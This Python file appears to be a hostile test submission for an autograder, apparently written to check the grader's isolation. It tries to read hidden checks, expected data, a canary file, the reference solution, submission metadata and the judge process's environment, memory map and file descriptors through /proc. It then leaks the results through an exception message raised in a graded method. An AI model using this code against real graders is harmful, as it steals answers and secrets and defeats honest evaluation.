# Reads the hidden checks, the expected data, the reference, the student metadata and the
# judge's environment; prints whatever it got and raises it from a graded method.
# include: _hostile_helpers.py


def read(path):
    with open(path, "rb") as handle:
        return handle.read(4096).decode(errors="replace")


STOLEN = [
    attempt("chapter config", lambda: read(f"{SOURCE}/chapter/chapter.json")),
    attempt("hidden checks", lambda: read(f"{SOURCE}/chapter/checks_source.py")),
    attempt("expected data listing", lambda: os.listdir(f"{SOURCE}/chapter/expected")),
    attempt("expected data", lambda: read(f"{SOURCE}/chapter/expected/CANARY.txt")),
    attempt("reference solution", lambda: read(f"{SOURCE}/solutions/ch01_mlp_backprop.py")),
    attempt("grader folder listing", lambda: os.listdir(SOURCE)),
    attempt("submission metadata", lambda: read(f"{ROOT}/submission_metadata.json")),
    attempt("gradescope metadata", lambda: read("/autograder/submission_metadata.json")),
    attempt("judge environment", lambda: read(f"/proc/{os.getppid()}/environ")),
    attempt("judge memory map", lambda: read(f"/proc/{os.getppid()}/maps")),
    attempt("judge open files", lambda: os.listdir(f"/proc/{os.getppid()}/fd")),
    attempt("judge working folder", lambda: os.listdir(f"/proc/{os.getppid()}/cwd")),
]
print(f"hostile: read {sum(item is not None for item in STOLEN)} of {len(STOLEN)} secrets")


class Linear(Linear):
    def forward(self, x):
        raise RuntimeError("stolen: " + " | ".join(str(item) for item in STOLEN if item))
